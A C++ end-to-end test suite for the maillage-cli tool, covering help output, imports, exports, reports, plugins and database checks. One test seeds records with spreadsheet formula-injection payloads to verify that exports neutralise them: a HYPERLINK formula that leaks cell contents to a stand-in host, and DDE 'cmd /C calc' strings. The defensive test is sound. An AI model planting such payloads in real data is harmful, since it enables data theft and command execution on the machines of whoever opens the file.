// maillage-cli end to end: the built binary, run on temporary databases and XDG folders.
#include "cli_runner.h"
#include "test_support.h"

#include "core/csv.h"

#include <SQLiteCpp/SQLiteCpp.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <pwd.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>

using namespace maillage;
using test::Cli;
using test::Result;
using test::quoted;

TEST(CliE2E, HelpEverywhereExitsZero) {
    Cli cli;
    auto r = cli.run({"--help"});
    EXPECT_OK(r);
    for (const char* cmd : {"init", "plugins", "import", "export", "report"})
        EXPECT_NE(r.out.find(cmd), std::string::npos) << cmd;
    for (auto args : std::vector<std::vector<std::string>>{{"import", "--help"},
                                                           {"import", "people", "--help"},
                                                           {"export", "institutions", "--help"},
                                                           {"report", "--help"},
                                                           {"init", "--help"}}) {
        auto h = cli.run(args);
        EXPECT_OK(h);
        EXPECT_FALSE(h.out.empty());
    }
    EXPECT_FALSE(std::filesystem::exists(cli.db()));  // --help opens no database
}

TEST(CliE2E, UnknownCommandOrOptionFails) {
    Cli cli;
    auto r = cli.run({"frobnicate"});
    EXPECT_NE(r.code, 0);
    EXPECT_FALSE(r.err.empty());
    r = cli.run({"report", "--format", "pdf"});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("pdf"), std::string::npos);
    r = cli.run({});
    EXPECT_NE(r.code, 0);
    // A mistyped --db does not create an empty database.
    r = cli.run({"export", "people"});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("init"), std::string::npos) << r.err;
    EXPECT_FALSE(std::filesystem::exists(cli.db()));
}

TEST(CliE2E, InitDemoThenRefusesASecondDemo) {
    Cli cli;
    auto r = cli.run({"init", "--demo", "--year", "2025"});
    EXPECT_OK(r);
    EXPECT_EQ(cli.count("person"), 200);
    EXPECT_EQ(cli.count("institution"), 46);
    r = cli.run({"init", "--demo"});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("already holds data"), std::string::npos);
    EXPECT_EQ(cli.count("person"), 200);
}

TEST(CliE2E, ReportSentencesCountTheWayEachLanguageDoes) {
    Cli cli;
    ASSERT_EQ(cli.run({"init"}).code, 0);
    const auto pat_paragraphs = [&](const char* lang) {
        const auto r = cli.run({"report", "--year", "2025", "--lang", lang, "--format", "json"});
        EXPECT_OK(r);
        const auto report = nlohmann::json::parse(r.out);
        for (const auto& section : report["sections"])
            if (section["id"] == "pat.accompaniments") return section["paragraphs"].get<std::vector<std::string>>();
        ADD_FAILURE() << "no PAT section in " << lang;
        return std::vector<std::string>{};
    };
    const auto has = [](const std::vector<std::string>& paragraphs, const std::string& text) {
        return std::find(paragraphs.begin(), paragraphs.end(), text) != paragraphs.end();
    };
    // French says "0 formation" (0 and 1 take the singular), English "0 trainings".
    const auto fr = pat_paragraphs("fr");
    EXPECT_TRUE(has(fr, "0 organisation accompagnée : -.")) << ::testing::PrintToString(fr);
    EXPECT_TRUE(has(fr, "0 équipe accompagnée depuis le début (-) ; 0 engagement (-).")) << ::testing::PrintToString(fr);
    const auto en = pat_paragraphs("en");
    EXPECT_TRUE(has(en, "0 organisations accompanied: -.")) << ::testing::PrintToString(en);
    EXPECT_TRUE(has(en, "0 teams accompanied since the start (-); 0 hires (-).")) << ::testing::PrintToString(en);
}

TEST(CliE2E, ThePeerSupportMapIsExportedAsTheWindowDrawsIt) {
    Cli cli;
    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
    auto r = cli.run({"pat", "map", "export"});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("--svg FILE"), std::string::npos) << r.err;
    const auto file = cli.dir().path() / "carte.svg";
    r = cli.run({"pat", "map", "export", "--svg", file.string()});
    EXPECT_OK(r);
    const auto svg = test::read_file(file);
    EXPECT_EQ(svg.rfind("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg", 0), 0u) << svg.substr(0, 120);
    EXPECT_NE(svg.find("width=\"1000.0\" height=\"680.0\""), std::string::npos);
    const auto workplaces = svg.find("<g id=\"workplaces\"");
    ASSERT_NE(workplaces, std::string::npos);
    EXPECT_NE(svg.find("<circle", workplaces), std::string::npos) << "the demo's workplaces are on the map";
    EXPECT_NE(svg.find("</svg>"), std::string::npos);
}

TEST(CliE2E, PluginsListsTheFixtureAndTheRefusedWithReasons) {
    Cli cli;
    auto r = cli.run({"--plugin-dir", test::test_plugin_dir().string(), "plugins"});
    EXPECT_OK(r);
    EXPECT_NE(r.out.find("fixture 1.2.3"), std::string::npos) << r.out;
    for (const char* file : {"maillage_fixture_bad_version.so", "maillage_fixture_no_factory.so",
                             "maillage_fixture_throws.so", "maillage_fixture_good_twin.so"})
        EXPECT_NE(r.out.find(file), std::string::npos) << file << "\n" << r.out;
    EXPECT_NE(r.out.find("999"), std::string::npos);
    EXPECT_NE(r.out.find("fixture refuses to start"), std::string::npos);
    // The fixture's own command runs, on its migrated table (of a database made by init:
    // no other command creates one).
    ASSERT_EQ(cli.run({"--plugin-dir", test::test_plugin_dir().string(), "init"}).code, 0);
    r = cli.run({"--plugin-dir", test::test_plugin_dir().string(), "fixture", "hello"});
    EXPECT_OK(r);
    EXPECT_NE(r.out.find("hello from fixture: 0 notes"), std::string::npos);
}

TEST(CliE2E, ImportGoodFileThenBadFileChangesNothing) {
    Cli cli;
    ASSERT_EQ(cli.run({"init"}).code, 0);
    const auto good = cli.dir() / "good.csv";
    test::write_file(good, "Nom;R\xE9gion;Secteurs\r\nAbri de nuit;Bruxelles;homeless\r\nCAW;Vlaanderen;social_aid\r\n");
    auto r = cli.run({"import", "institutions", good.string(), "--dry-run"});
    EXPECT_OK(r);
    EXPECT_NE(r.out.find("2 to create"), std::string::npos) << r.out;
    EXPECT_EQ(cli.count("institution"), 0);
    r = cli.run({"import", "institutions", good.string()});
    EXPECT_OK(r);
    EXPECT_EQ(cli.count("institution"), 2);

    const auto bad = cli.dir() / "bad.csv";
    test::write_file(bad, "name;region\nNew one;wallonia\nOther;Atlantis\n");
    const auto audit_before = cli.count("audit_log");
    r = cli.run({"import", "institutions", bad.string()});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("line 3, column 2"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("Atlantis"), std::string::npos) << r.err;
    EXPECT_EQ(cli.count("institution"), 2);
    EXPECT_EQ(cli.count("audit_log"), audit_before);

    const auto unterminated = cli.dir() / "quote.csv";
    test::write_file(unterminated, "first_name;last_name\nA;\"B\nC;D\n");
    r = cli.run({"import", "people", unterminated.string()});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("line 2, column 2"), std::string::npos) << r.err;
    r = cli.run({"import", "people", (cli.dir() / "missing.csv").string()});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("missing.csv"), std::string::npos);
}

TEST(CliE2E, ExportImportRoundTrip) {
    Cli source, copy;
    ASSERT_EQ(source.run({"init", "--demo", "--year", "2025"}).code, 0);
    const auto inst = source.dir() / "institutions.csv", people = source.dir() / "people.csv";
    EXPECT_OK(source.run({"export", "institutions", "--out", inst.string()}));
    EXPECT_OK(source.run({"export", "people", "--out", people.string()}));
    ASSERT_EQ(copy.run({"init"}).code, 0);
    EXPECT_OK(copy.run({"import", "institutions", inst.string()}));
    EXPECT_OK(copy.run({"import", "people", people.string()}));
    EXPECT_EQ(copy.count("person"), 200);
    EXPECT_OK(copy.run({"check"}));  // an import leaves the database sound (integrity, audit chain, invariants)
    auto again = copy.run({"export", "people"});
    EXPECT_OK(again);
    EXPECT_EQ(again.out, test::read_file(people));
    again = copy.run({"export", "institutions", "--separator", ","});
    EXPECT_OK(again);
    EXPECT_NE(again.out.find("name,region,municipality,"), std::string::npos) << again.out.substr(0, 200);
    auto r = copy.run({"import", "institutions", "--dry-run", inst.string()});
    EXPECT_NE(r.out.find("0 to create, 0 to update, 46 unchanged"), std::string::npos) << r.out;
    // Importing the same export again changes nothing and records nothing (issue 16).
    const auto audit_before = copy.count("audit_log");
    r = copy.run({"import", "people", people.string()});
    EXPECT_NE(r.out.find("0 created, 0 updated, 200 unchanged"), std::string::npos) << r.out;
    EXPECT_EQ(copy.count("audit_log"), audit_before);
}

TEST(CliE2E, ReportInThreeFormats) {
    Cli cli;
    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
    auto json = cli.run({"report", "--year", "2025", "--format", "json"});
    EXPECT_OK(json);
    auto j = nlohmann::json::parse(json.out);
    EXPECT_EQ(j["scope"]["year"], 2025);
    EXPECT_EQ(j["scope"]["language"], "fr");
    ASSERT_TRUE(j["sections"].is_array());
    EXPECT_FALSE(j["sections"].empty());
    auto md = cli.run({"report", "--year", "2025", "--format", "md", "--lang", "en"});
    EXPECT_OK(md);
    EXPECT_EQ(md.out.rfind("# ", 0), 0u);
    const auto html_file = cli.dir() / "report.html";
    auto html = cli.run({"report", "--year", "2025", "--format", "html", "--out", html_file.string()});
    EXPECT_OK(html);
    const auto page = test::read_file(html_file);
    EXPECT_NE(page.find("<!DOCTYPE html>"), std::string::npos);
    EXPECT_NE(page.find("</html>"), std::string::npos);
    auto funder = cli.run({"report", "--funder", "COCOM", "--format", "json"});
    EXPECT_OK(funder);
    EXPECT_EQ(nlohmann::json::parse(funder.out)["scope"]["funder"], "COCOM");
    auto unknown = cli.run({"report", "--funder", "NOPE"});
    EXPECT_NE(unknown.code, 0);
    EXPECT_NE(unknown.err.find("NOPE"), std::string::npos) << unknown.err;
}

TEST(CliE2E, APluginThatCrashedTheLastStartIsSkippedAndNamed) {
    Cli cli;
    const auto crash_dir = test::test_plugin_dir().parent_path() / "test-plugins-crash";
    auto r = cli.run({"--plugin-dir", crash_dir.string(), "plugins"});
    EXPECT_NE(r.code, 0) << "the fixture aborts while loading";
    r = cli.run({"--plugin-dir", crash_dir.string(), "plugins"});
    EXPECT_OK(r);
    EXPECT_NE(r.out.find("maillage_fixture_crashes.so"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("crashed the program while starting last time"), std::string::npos) << r.out;
}

namespace {
// The cells of a CSV file as written (quotes removed, nothing else undone).
std::vector<std::string> raw_cells(std::string text) {
    if (text.rfind("\xEF\xBB\xBF", 0) == 0) text.erase(0, 3);
    std::vector<std::string> cells;
    std::string cell;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += c, ++i;
            else if (c == '"') quoted = false;
            else cell += c;
        } else if (c == '"') {
            quoted = true;
        } else if (c == ';' || c == ',' || c == '\n') {
            cells.push_back(cell);
            cell.clear();
        } else if (c != '\r') {
            cell += c;
        }
    }
    if (!cell.empty()) cells.push_back(cell);
    return cells;
}

// The text cells of an XLSX workbook (its shared strings), XML entities decoded.
std::vector<std::string> xlsx_strings(const std::filesystem::path& file) {
    const auto xml_file = file.string() + ".strings.xml";
    const auto cmd = "unzip -p " + quoted(file.string()) + " xl/sharedStrings.xml > " + quoted(xml_file);
    EXPECT_EQ(std::system(cmd.c_str()), 0) << file;
    const auto xml = test::read_file(xml_file);
    std::vector<std::string> out;
    for (std::size_t at = xml.find("<t"); at != std::string::npos; at = xml.find("<t", at + 1)) {
        if (xml.compare(at, 3, "<t>") != 0 && xml.compare(at, 3, "<t ") != 0) continue;
        const auto start = xml.find('>', at) + 1, end = xml.find("</t>", start);
        std::string s = xml.substr(start, end - start), decoded;
        for (std::size_t i = 0; i < s.size(); ++i) {
            if (s[i] != '&') { decoded += s[i]; continue; }
            const auto semi = s.find(';', i);
            const auto entity = s.substr(i, semi - i + 1);
            decoded += entity == "&amp;" ? "&" : entity == "&lt;" ? "<" : entity == "&gt;" ? ">" :
                       entity == "&quot;" ? "\"" : entity == "&apos;" ? "'" : entity;
            i = semi;
        }
        out.push_back(decoded);
    }
    return out;
}
}  // namespace

// Issue 16 item 3: names, institutions, groups and titles that a spreadsheet would run
// as formulas reach no export as they are, in any of the core's and plugins' CSV and
// XLSX files; phone numbers and negative numbers stay readable.
TEST(CliE2E, EveryExportNeutralisesSpreadsheetFormulas) {
    Cli cli;
    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
    std::string cycle;
    int64_t event = 0;
    {
        SQLite::Database file(cli.db().string(), SQLite::OPEN_READWRITE);
        // Hostile text wherever a user or an import could have typed it.
        file.exec("UPDATE person SET first_name = '=HYPERLINK(\"http://x.invalid/?\"&A1,\"a\")', "
                  "last_name = '@SUM(1+1)*cmd|'' /C calc''!A0 ' || id, phone = '+32 2 123 45 67', notes = '-3'");
        file.exec("UPDATE institution SET name = '+cmd|'' /C calc''!A0 ' || id, municipality = '-2+3+A1'");
        file.exec("UPDATE intervision_group SET name = '=1+1 ' || id");
        file.exec("UPDATE catalogue_training SET title_fr = '=2+2 ' || id, title_nl = '=2+2 ' || id");
        file.exec("UPDATE session SET title = '=3+3' WHERE title IS NOT NULL");
        cycle = file.execAndGet("SELECT name FROM intervision_cycle ORDER BY id DESC LIMIT 1").getString();
        event = file.execAndGet("SELECT e.id FROM exchange_event e WHERE EXISTS (SELECT 1 FROM exchange_registration "
                                "r WHERE r.event_id = e.id) ORDER BY e.id LIMIT 1").getInt64();
    }
    const auto d = cli.dir().path();
    std::vector<std::pair<std::vector<std::string>, std::filesystem::path>> csv_exports = {
        {{"export", "people", "--out", (d / "people.csv").string()}, d / "people.csv"},
        {{"export", "institutions", "--out", (d / "inst.csv").string()}, d / "inst.csv"},
        {{"intervision", "participants", "--cycle", cycle, "--programme", "connect", "--out", (d / "iv.csv").string()}, d / "iv.csv"},
        {{"exchange", "export", std::to_string(event), "--out", (d / "ex.csv").string()}, d / "ex.csv"},
        {{"pat", "export", "sessions", "--csv", (d / "pat-s.csv").string()}, d / "pat-s.csv"},
        {{"pat", "export", "accompaniments", "--csv", (d / "pat-a.csv").string()}, d / "pat-a.csv"},
        {{"pat", "map", "export", "--csv", (d / "map.csv").string()}, d / "map.csv"},
    };
    for (const auto& [args, file] : csv_exports) {
        auto r = cli.run(args);
        ASSERT_EQ(r.code, 0) << args[0] << ' ' << args[1] << '\n' << r.err;
        int guarded = 0;
        for (const auto& cell : raw_cells(test::read_file(file))) {
            EXPECT_FALSE(csv::is_formula_risk(cell)) << file.filename() << ": " << cell;
            guarded += cell.size() > 1 && cell[0] == '\'';
        }
        EXPECT_GT(guarded, 0) << file.filename() << " holds none of the hostile values: the test proves nothing";
    }
    const auto people = test::read_file(d / "people.csv");
    EXPECT_NE(people.find(";+32 2 123 45 67;"), std::string::npos) << "a phone number is written as it is";
    EXPECT_NE(people.find(";-3\r\n"), std::string::npos) << "a negative number is written as it is";

    std::vector<std::pair<std::vector<std::string>, std::filesystem::path>> xlsx_exports = {
        {{"intervision", "participants", "--cycle", cycle, "--programme", "connect", "--out", (d / "iv.xlsx").string()}, d / "iv.xlsx"},
        {{"exchange", "export", std::to_string(event), "--out", (d / "ex.xlsx").string()}, d / "ex.xlsx"},
        {{"pat", "export", "sessions", "--xlsx", (d / "pat-s.xlsx").string()}, d / "pat-s.xlsx"},
        {{"pat", "export", "accompaniments", "--xlsx", (d / "pat-a.xlsx").string()}, d / "pat-a.xlsx"},
        {{"catalogue", "export-xlsx", "--year", "2025", "--out", (d / "cat.xlsx").string()}, d / "cat.xlsx"},
    };
    for (const auto& [args, file] : xlsx_exports) {
        auto r = cli.run(args);
        ASSERT_EQ(r.code, 0) << args[0] << ' ' << args[1] << '\n' << r.err;
        int guarded = 0;
        for (const auto& cell : xlsx_strings(file)) {
            EXPECT_FALSE(csv::is_formula_risk(cell)) << file.filename() << ": " << cell;
            guarded += cell.size() > 1 && cell[0] == '\'';
        }
        EXPECT_GT(guarded, 0) << file.filename() << " holds none of the hostile values: the test proves nothing";
    }

    // The people export imports back into a fresh database as it was.
    Cli copy;
    ASSERT_EQ(copy.run({"init"}).code, 0);
    EXPECT_OK(copy.run({"import", "institutions", (d / "inst.csv").string()}));
    EXPECT_OK(copy.run({"import", "people", (d / "people.csv").string()}));
    auto again = copy.run({"export", "people"});
    EXPECT_OK(again);
    EXPECT_EQ(again.out, people);
    SQLite::Database file(copy.db().string(), SQLite::OPEN_READONLY);
    EXPECT_EQ(file.execAndGet("SELECT count(*) FROM person WHERE first_name LIKE '=HYPERLINK(%'").getInt(), 200);
}

// Issue 16 item 7: only init makes a database; every other command, the core's and the
// plugins', refuses a missing --db file with a message naming it, and creates nothing.
TEST(CliE2E, OnlyInitCreatesADatabase) {
    Cli cli;
    const std::vector<std::vector<std::string>> commands = {
        {"backup"},
        {"check"},
        {"retention", "list"},
        {"gdpr", "export", "--person", "1", "--out", (cli.dir() / "p.json").string()},
        {"report", "--year", "2025"},
        {"export", "people"},
        {"intervision", "cycle", "list"},
        {"exchange", "event", "list"},
        {"pat", "board"},
        {"catalogue", "training", "list"},
    };
    for (const auto& args : commands) {
        auto r = cli.run(args);
        EXPECT_NE(r.code, 0) << args[0] << ' ' << args.back() << '\n' << r.out;
        EXPECT_NE(r.err.find("There is no database at " + cli.db().string()), std::string::npos) << args[0] << ": "
                                                                                              << r.err;
        for (const auto& entry : std::filesystem::directory_iterator(cli.dir().path()))
            EXPECT_EQ(entry.path().filename().string().rfind("maillage.sqlite", 0), std::string::npos)
                << args[0] << " left " << entry.path();
    }
    EXPECT_OK(cli.run({"init"}));
    EXPECT_TRUE(std::filesystem::exists(cli.db()));
    EXPECT_OK(cli.run({"check"}));
}

TEST(CliE2E, WithoutHomeTheDefaultDatabaseIsNotInTmp) {
    const passwd* pw = getpwuid(getuid());
    ASSERT_NE(pw, nullptr);
    if (std::filesystem::exists(std::string(pw->pw_dir) + "/.local/share/maillage/maillage.sqlite"))
        GTEST_SKIP() << "this account has a default database; the test would open it";
    test::TempDir dir;
    const auto err = dir / "err.txt";
    const std::string cmd = "cd " + quoted(dir.path().string()) +
                            " && env -u HOME -u XDG_DATA_HOME -u XDG_CONFIG_HOME -u MAILLAGE_DB -u MAILLAGE_PLUGIN_PATH "
                            "LC_ALL=C.UTF-8 LANGUAGE= " + quoted((test::build_bin_dir() / "maillage-cli").string()) +
                            " check 2>" + quoted(err.string());
    const int status = std::system(cmd.c_str());
    EXPECT_NE(WEXITSTATUS(status), 0);
    const auto text = test::read_file(err);
    // Either the account's home is used (and names no database yet), or the error says
    // no home is known; never a database under /tmp.
    EXPECT_EQ(text.find("/tmp/"), std::string::npos) << text;
    EXPECT_NE(text.find(std::string(pw->pw_dir) + "/.local/share/maillage/maillage.sqlite"), std::string::npos) << text;
}

// Issue 16 item 14: a report with a section that could not be computed exits non-zero
// and names it; check names a trigger that no migration created.
TEST(CliE2E, AReportWithAFailedSectionFailsAndCheckNamesForeignTriggers) {
    Cli cli;
    ASSERT_EQ(cli.run({"init", "--demo", "--year", "2025"}).code, 0);
    EXPECT_OK(cli.run({"report", "--year", "2025", "--format", "json"}));
    EXPECT_OK(cli.run({"check"}));  // the plugins' own triggers and views are known
    {
        SQLite::Database file(cli.db().string(), SQLite::OPEN_READWRITE);
        file.exec("ALTER TABLE exchange_registration RENAME TO exchange_registration_lost");
        file.exec("CREATE TRIGGER copy_people AFTER UPDATE ON person BEGIN SELECT 1; END");
    }
    const auto out = cli.dir() / "report.json";
    auto r = cli.run({"report", "--year", "2025", "--format", "json", "--out", out.string()});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("The report is incomplete"), std::string::npos) << r.err;
    EXPECT_NE(r.err.find("exchange"), std::string::npos) << r.err;
    EXPECT_NE(test::read_file(out).find(".error"), std::string::npos) << "the rest of the report is still written";
    r = cli.run({"check"});
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.out.find("trigger copy_people on person was not created by any migration"), std::string::npos) << r.out;
}
